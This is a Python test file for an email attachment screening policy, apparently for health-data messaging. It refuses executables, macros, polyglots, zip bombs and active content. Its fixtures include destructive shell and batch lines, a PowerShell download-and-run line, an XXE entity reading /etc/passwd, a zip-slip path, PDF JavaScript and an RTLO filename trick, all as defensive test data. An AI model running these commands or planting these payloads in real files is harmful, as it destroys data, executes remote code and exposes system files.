"""The attachment corpus: each file gets the expected decision (issue 7, "Must hold")."""

from __future__ import annotations

import random
import struct
from collections.abc import Callable
from email.message import EmailMessage

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from policy.attachments import (
    AttachmentLimits,
    check_attachment,
    check_message,
    clean_name,
    declared_problem,
)
from policy.decision import Reason
from policy.file_types import Family
from tests.policy import corpus as c

OK = Reason.OK
REFUSED = Reason.ATTACHMENT_TYPE_REFUSED

#: (case, builder, declared type, file name, expected reason, words expected in the detail)
CORPUS: list[tuple[str, Callable[[], bytes], str, str, Reason, str]] = [
    ("pdf", c.pdf, "application/pdf", "compte-rendu.pdf", OK, ""),
    ("jpeg", c.jpeg, "image/jpeg", "photo.jpg", OK, ""),
    ("png", c.png, "image/png", "schema.png", OK, ""),
    ("tiff", c.tiff, "image/tiff", "scan.tif", OK, ""),
    ("text utf-8", c.text_utf8, "text/plain", "notes.txt", OK, ""),
    ("text cp1252", c.text_cp1252, "text/plain", "ordonnance.txt", OK, ""),
    ("cda", c.cda, "text/xml", "DOC0001.XML", OK, ""),
    ("cda with pdf body", lambda: c.cda_with_embedded(c.pdf()), "application/xml", "doc.xml",
     OK, ""),
    ("xdm", c.xdm, "application/zip", "IHE_XDM.ZIP", OK, ""),
    ("pdf as octet-stream", c.pdf, "application/octet-stream", "document.pdf", OK, ""),
    ("exe renamed .pdf", c.exe, "application/pdf", "resultats.pdf", REFUSED, "executable"),
    ("elf", c.elf, "application/octet-stream", "tool", REFUSED, "ELF"),
    ("pdf declared zip", c.pdf, "application/zip", "archive.zip", REFUSED,
     "declared type application/zip contradicts"),
    ("png named .pdf", c.png, "application/octet-stream", "scan.pdf", REFUSED,
     "extension .pdf contradicts"),
    ("docm", c.docm, "application/vnd.ms-word.document.macroEnabled.12", "lettre.docm", REFUSED,
     "macro-enabled office document"),
    ("docm named docx", c.docm, "application/octet-stream", "lettre.docx", REFUSED,
     "macro-enabled office document"),
    ("docx", c.docx, "application/octet-stream", "lettre.docx", REFUSED, "office document"),
    ("ole doc", c.ole, "application/msword", "lettre.doc", REFUSED, "OLE"),
    ("encrypted zip", c.encrypted_zip, "application/zip", "IHE_XDM.ZIP", REFUSED,
     "encrypted archive"),
    ("42.zip nesting", c.nested_bomb, "application/zip", "42.zip", REFUSED, "nested archive"),
    ("high-ratio member", c.ratio_bomb, "application/zip", "IHE_XDM.ZIP", REFUSED,
     "compression ratio"),
    ("xdm with exe", lambda: c.xdm({"IHE_XDM/SUBSET01/DOC0002.XML": c.exe()}),
     "application/zip", "IHE_XDM.ZIP", REFUSED, "XDM member IHE_XDM/SUBSET01/DOC0002.XML"),
    ("xdm with nested zip", lambda: c.xdm({"IHE_XDM/SUBSET01/DOC0002.ZIP": c.xdm()}),
     "application/zip", "IHE_XDM.ZIP", REFUSED, "nested archive"),
    ("plain zip", lambda: c.zip_of({"a.pdf": c.pdf()}), "application/zip", "docs.zip", REFUSED,
     "not an IHE XDM package"),
    ("pdf+zip polyglot", c.pdf_zip_polyglot, "application/pdf", "doc.pdf", REFUSED, "polyglot"),
    ("jpeg+zip polyglot", c.jpeg_zip_polyglot, "image/jpeg", "photo.jpg", REFUSED, "polyglot"),
    ("jpeg with script", lambda: c.jpeg() + b"<script>alert(1)</script>", "image/jpeg", "x.jpg",
     REFUSED, "polyglot"),
    ("pdf header after junk", lambda: b"GIF89a" + b"\0" * 20 + c.pdf(), "image/gif", "x.gif",
     REFUSED, "polyglot"),
    ("shell script as txt", lambda: b"#!/bin/sh\nrm -rf ~\n", "text/plain", "notes.txt", REFUSED,
     "script"),
    ("batch", lambda: b"@echo off\r\ndel /q C:\\*\r\n", "text/plain", "lisezmoi.txt", REFUSED,
     "script"),
    ("powershell", lambda: b"IEX (New-Object Net.WebClient).DownloadString('http://x')\n",
     "text/plain", "a.txt", REFUSED, "script"),
    ("vbscript", lambda: b'Set sh = CreateObject("WScript.Shell")\nsh.Run "calc"\n',
     "text/plain", "a.txt", REFUSED, "script"),
    ("javascript", lambda: b"var s = 'x';\neval(s);\n", "text/plain", "a.txt", REFUSED, "script"),
    ("html", lambda: b"<html><body><p>x</p></body></html>", "text/html", "page.html", REFUSED,
     "HTML"),
    ("gif", c.gif, "image/gif", "anim.gif", REFUSED, "GIF"),
    ("other xml", lambda: b"<?xml version='1.0'?><note>x</note>", "text/xml", "n.xml", REFUSED,
     "XML other than an HL7 CDA"),
    ("xxe in cda", lambda: (b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM '
                            b'"file:///etc/passwd">]><ClinicalDocument xmlns="urn:hl7-org:v3">'
                            b"&e;</ClinicalDocument>"), "text/xml", "doc.xml", REFUSED,
     "forbidden XML construct"),
    ("cda with exe body", lambda: c.cda_with_embedded(c.exe()), "text/xml", "doc.xml", REFUSED,
     "CDA body: executable"),
    ("pdf with javascript", lambda: c.pdf().replace(b"/Type /Catalog",
                                                     b"/Type /Catalog /OpenAction << /S "
                                                     b"/JavaScript /JS (app.alert(1)) >>"),
     "application/pdf", "doc.pdf", REFUSED, "active content"),
    ("pdf with escaped name", lambda: c.pdf().replace(b"/Type /Catalog",
                                                       b"/Type /Catalog /AA << /S /J#61vaScript"
                                                       b" >>"),
     "application/pdf", "doc.pdf", REFUSED, "active content (/JavaScript)"),
    ("pdf with /JS bytes inside stream data", lambda: c.pdf().replace(
        b"/Type /Catalog", b"/Type /Catalog >> endobj 9 0 obj << /Length 12 >>\nstream\n"
                           b"\x8f/JS \x01\nendstream\nendobj 10 0 obj <<"),
     "application/pdf", "doc.pdf", OK, ""),
    # string literals that look like stream delimiters around an object: a reader reaches
    # the object through the cross-reference table, so the screen must see it too
    ("pdf with javascript between fake stream markers", lambda: c.pdf().replace(
        b"/Type /Catalog", b"/Type /Catalog /Title (stream\n) /OpenAction 9 0 R >> endobj "
                           b"9 0 obj << /S /JavaScript /JS (app.alert(1)) >> endobj "
                           b"10 0 obj << /Subject (endstream)"),
     "application/pdf", "doc.pdf", REFUSED, "active content (/JavaScript)"),
    ("pdf named exe", c.pdf, "application/pdf", "rapport.pdf.exe", REFUSED, "extension .exe"),
    ("rtlo trick", c.pdf, "application/pdf", "rapport\u202efdp.exe", REFUSED, "extension .exe"),
    ("unknown binary", lambda: bytes(range(256)) * 4, "application/octet-stream", "blob.bin",
     REFUSED, "unrecognised content"),
    ("gzip", lambda: b"\x1f\x8b\x08\x00" + b"\x00" * 30, "application/gzip", "x.gz", REFUSED,
     "archive type not accepted"),
]


@pytest.mark.parametrize(
    ("builder", "ctype", "name", "reason", "words"),
    [pytest.param(*row[1:], id=row[0]) for row in CORPUS],
)
def test_corpus(
    builder: Callable[[], bytes], ctype: str, name: str, reason: Reason, words: str
) -> None:
    finding = check_attachment(builder(), name=name, declared_type=ctype)
    assert finding.reason is reason, finding
    assert finding.allowed is (reason is OK)
    assert words in finding.problem
    if reason is not OK:
        assert finding.decision.detail.startswith(clean_name(name) + ": ")
        assert clean_name(name) not in finding.audit_detail


@pytest.mark.parametrize(
    ("builder", "ctype", "name", "reason", "words"),
    [pytest.param(*row[1:], id=row[0]) for row in CORPUS if row[0] in
     ("pdf", "xdm", "exe renamed .pdf", "docm", "42.zip nesting", "pdf+zip polyglot", "cda")],
)
def test_corpus_inside_a_message(
    builder: Callable[[], bytes], ctype: str, name: str, reason: Reason, words: str
) -> None:
    report = check_message(c.message((builder(), ctype, name)))
    assert report.decision.reason is reason
    assert len(report.attachments) == 1
    if reason is not OK:
        assert name in report.decision.detail and words in report.decision.detail
        assert name not in report.audit_detail
        assert report.audit_detail.startswith("attachment #1 (")


def test_xdm_patient_must_match_the_patient_recipient() -> None:
    package = c.xdm(patient=c.INS_A)
    ok = check_attachment(package, name="IHE_XDM.ZIP", patient_recipients=frozenset({c.INS_A}))
    assert ok.allowed
    other = check_attachment(package, name="IHE_XDM.ZIP",
                             patient_recipients=frozenset({c.INS_B}))
    assert not other.allowed and "does not match the patient recipient" in other.problem
    # Corsican INS, recipient written with a lower-case département
    corsica = c.xdm(patient=c.INS_CORSICA)
    assert check_attachment(
        corsica, name="IHE_XDM.ZIP", patient_recipients=frozenset({c.INS_CORSICA.lower()})
    ).allowed
    # a professional recipient only: no patient to compare with
    assert check_attachment(package, name="IHE_XDM.ZIP", patient_recipients=None).allowed


def test_xdm_metadata_with_a_foreign_authority_is_refused_for_a_patient() -> None:
    package = c.xdm({"IHE_XDM/SUBSET01/METADATA.XML": c.metadata(c.INS_A, oid="1.2.3.4")})
    found = check_attachment(package, name="IHE_XDM.ZIP", patient_recipients=frozenset({c.INS_A}))
    assert not found.allowed and "unknown authority" in found.problem


@pytest.mark.parametrize(
    ("extra", "words"),
    [
        ({"evil.txt": b"x"}, "unexpected member"),
        ({"IHE_XDM/SUBSET02/DOC0001.XML": c.cda()}, "without METADATA.XML"),
        ({"INDEX.HTM": b"<html><script>alert(1)</script></html>"}, "active content"),
        ({"INDEX.HTM": b'<html><body onload="x()"></body></html>'}, "active content"),
        ({"README.TXT": c.png()}, "README.TXT is not text"),
        ({"IHE_XDM/SUBSET01/METADATA.XML": b"<notebrim/>"}, "not an ebRIM"),
        ({"IHE_XDM/SUBSET01/DOC0002.XML": b"<?xml version='1.0'?><x/>"}, "XML other than"),
        ({"IHE_XDM/SUBSET01/STYLE.XSL": b"#!/usr/bin/env python\nimport os\n"}, "script"),
    ],
)
def test_xdm_layout_and_members(extra: dict[str, bytes], words: str) -> None:
    found = check_attachment(c.xdm(extra), name="IHE_XDM.ZIP",
                             patient_recipients=frozenset({c.INS_A}))
    assert not found.allowed
    assert words in found.problem


def test_zip_tricks() -> None:
    slip = c.zip_of({"../../etc/cron.d/x": b"x", "IHE_XDM/S/METADATA.XML": c.metadata()})
    assert "leaves the archive" in check_attachment(slip, name="a.zip").problem
    absolute = c.zip_of({"/etc/x": b"x"})
    assert "absolute" in check_attachment(absolute, name="a.zip").problem
    backslash = c.zip_of({"IHE_XDM\\S\\X": b"x"})
    assert "backslash" in check_attachment(backslash, name="a.zip").problem
    corrupt = bytearray(c.xdm())
    name_len, extra_len = struct.unpack_from("<HH", corrupt, 26)
    corrupt[30 + name_len + extra_len + 2] ^= 0xFF  # inside the first member's data
    found = check_attachment(bytes(corrupt), name="a.zip")
    assert not found.allowed and "archive" in found.problem


def test_zip_limits_on_members_and_total() -> None:
    many = c.xdm({f"IHE_XDM/SUBSET01/D{i:04d}.TXT": b"texte" for i in range(20)})
    tight = AttachmentLimits(zip_max_members=10)
    assert "more than 10" in check_attachment(many, name="x.zip", limits=tight).problem
    rnd = random.Random(7)
    big = c.xdm({f"IHE_XDM/SUBSET01/D{i}.TXT": rnd.randbytes(300_000) for i in range(5)})
    small_total = AttachmentLimits(zip_max_total_size=1024 * 1024)
    found = check_attachment(big, name="x.zip", limits=small_total)
    assert "expands beyond" in found.problem


def test_size_limits() -> None:
    limits = AttachmentLimits(max_message_size=200_000, max_attachment_size=50_000)
    big = c.text_utf8() * 1000  # ~80 kB
    found = check_attachment(big, name="long.txt", declared_type="text/plain", limits=limits)
    assert found.reason is Reason.MESSAGE_TOO_LARGE
    report = check_message(c.message((big, "text/plain", "long.txt")), limits=limits)
    assert report.decision.reason is Reason.MESSAGE_TOO_LARGE
    assert "long.txt" in report.decision.detail
    huge = check_message(c.message((big * 3, "text/plain", "long.txt")), limits=limits)
    assert huge.decision.reason is Reason.MESSAGE_TOO_LARGE
    assert huge.attachments == ()


def test_bodies_are_not_attachments_and_every_attachment_is_listed() -> None:
    msg = EmailMessage()
    msg["From"] = "a@b.fr"
    msg.set_content("texte")
    msg.add_alternative("<html><body><script>x</script></body></html>", subtype="html")
    msg.add_attachment(c.pdf(), maintype="application", subtype="pdf", filename="a.pdf")
    msg.add_attachment(c.png(), maintype="image", subtype="png", filename="b.png")
    report = check_message(msg.as_bytes())
    assert report.decision.allowed
    assert [(a.index, a.name, a.family) for a in report.attachments] == [
        (1, "a.pdf", Family.PDF), (2, "b.png", Family.PNG)]


def test_unnamed_non_body_part_is_judged() -> None:
    msg = EmailMessage()
    msg.set_content("x")
    msg.add_attachment(c.exe(), maintype="application", subtype="octet-stream")
    [part] = msg.iter_attachments()
    del part["Content-Disposition"]
    report = check_message(msg.as_bytes())
    assert report.decision.reason is REFUSED
    assert report.decision.detail.startswith("attachment #1: executable")


def test_forwarded_message_attachments_are_judged() -> None:
    inner = EmailMessage()
    inner["Subject"] = "fwd"
    inner.set_content("see attached")
    inner.add_attachment(c.exe(), maintype="application", subtype="pdf", filename="r.pdf")
    outer = EmailMessage()
    outer.set_content("forwarding")
    outer.add_attachment(inner)
    report = check_message(outer.as_bytes())
    assert report.decision.reason is REFUSED and "r.pdf" in report.decision.detail


def test_read_receipt_passes() -> None:
    mdn = (
        b"From: a@b.fr\r\nTo: c@d.fr\r\nSubject: Lu\r\nMIME-Version: 1.0\r\n"
        b'Content-Type: multipart/report; report-type=disposition-notification; boundary="b"\r\n'
        b"\r\n--b\r\nContent-Type: text/plain\r\n\r\nLu.\r\n"
        b"--b\r\nContent-Type: message/disposition-notification\r\n\r\n"
        b"Final-Recipient: rfc822; c@d.fr\r\nDisposition: manual-action/MDN-sent-manually; "
        b"displayed\r\n"
        b"--b\r\nContent-Type: text/rfc822-headers\r\n\r\nSubject: x\r\n--b--\r\n"
    )
    report = check_message(mdn)
    assert report.decision.allowed and report.attachments == ()


def test_mime_structure_bounds() -> None:
    deep = EmailMessage()
    deep.set_content("x")
    for _ in range(30):
        outer = EmailMessage()
        outer.set_content("y")
        outer.add_attachment(deep)
        deep = outer
    report = check_message(deep.as_bytes())
    assert report.decision.reason is REFUSED and "nested too deep" in report.decision.detail
    many = EmailMessage()
    many.set_content("x")
    for i in range(30):
        many.add_attachment(b"texte", maintype="text", subtype="plain", filename=f"{i}.txt")
    report = check_message(many.as_bytes(), limits=AttachmentLimits(max_parts=10))
    assert "more than 10 MIME parts" in report.decision.detail


def test_clean_name_and_declared_problem() -> None:
    assert clean_name("a\r\nb\u202ec.pdf") == "abc.pdf"
    assert clean_name("x" * 300).endswith("…") and len(clean_name("x" * 300)) == 120
    assert clean_name(None) == ""
    assert declared_problem("a.PDF", "APPLICATION/PDF", Family.PDF) is None
    assert declared_problem("a", "text/csv", Family.TEXT) is None
    assert declared_problem("a", "application/msword", Family.PDF) is not None
    assert declared_problem("a.docm", "", Family.ZIP) == "file name extension .docm not accepted"
    assert declared_problem(".pdf", "", Family.PNG) is None  # a dot file has no extension


@settings(max_examples=200, deadline=None)
@given(st.binary(max_size=4096), st.text(max_size=40), st.sampled_from(
    ["application/pdf", "application/zip", "text/plain", "", "image/png"]))
def test_any_bytes_get_a_verdict_never_an_exception(data: bytes, name: str, ctype: str) -> None:
    finding = check_attachment(data, name=name, declared_type=ctype)
    assert finding.allowed or finding.problem
    report = check_message(b"Content-Type: multipart/mixed; boundary=x\r\n\r\n--x\r\n"
                           b"Content-Type: application/octet-stream\r\n\r\n" + data + b"\r\n--x--")
    assert report.decision.allowed or report.decision.detail


@settings(max_examples=100, deadline=None)
@given(st.integers(0, 2000), st.binary(min_size=1, max_size=8))
def test_damaged_xdm_packages_are_refused_cleanly(offset: int, junk: bytes) -> None:
    data = bytearray(c.xdm())
    pos = offset % len(data)
    data[pos : pos + len(junk)] = junk
    finding = check_attachment(bytes(data), name="IHE_XDM.ZIP")
    assert finding.allowed or finding.problem
